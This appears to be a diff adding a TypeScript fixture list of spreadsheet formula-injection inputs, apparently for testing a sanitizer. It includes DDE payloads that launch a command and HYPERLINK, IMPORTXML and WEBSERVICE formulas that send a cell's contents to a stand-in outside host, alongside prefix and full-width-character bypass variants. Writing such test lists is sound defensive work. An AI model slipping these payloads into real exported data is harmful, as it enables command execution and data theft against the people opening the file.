@@ -1,0 +1,22 @@
+/** What a spreadsheet would run, if a cell began with it. */
+export const formulaTexts: readonly string[] = [
+  `=1+1`,
+  `=cmd|' /C calc'!A0`,
+  `=HYPERLINK("https://elsewhere.example/"&A1,"more")`,
+  `=IMPORTXML(CONCAT("https://elsewhere.example/",A1),"//a")`,
+  `=WEBSERVICE("https://elsewhere.example/")`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `+1+1`,
+  `+cmd|' /C calc'!A0`,
+  `-2+3+cmd|' /C calc'!A0`,
+  `\t=1+1`,
+  `\r=1+1`,
+  `\n=1+1`,
+  `","=1+1`,
+  `"\r\n=1+1,"`,
+  `;=1+1`,
+  `＝1+1`,
+  `＋1+1`,
+  `－1+1`,
+  `＠SUM(1)`,
+]
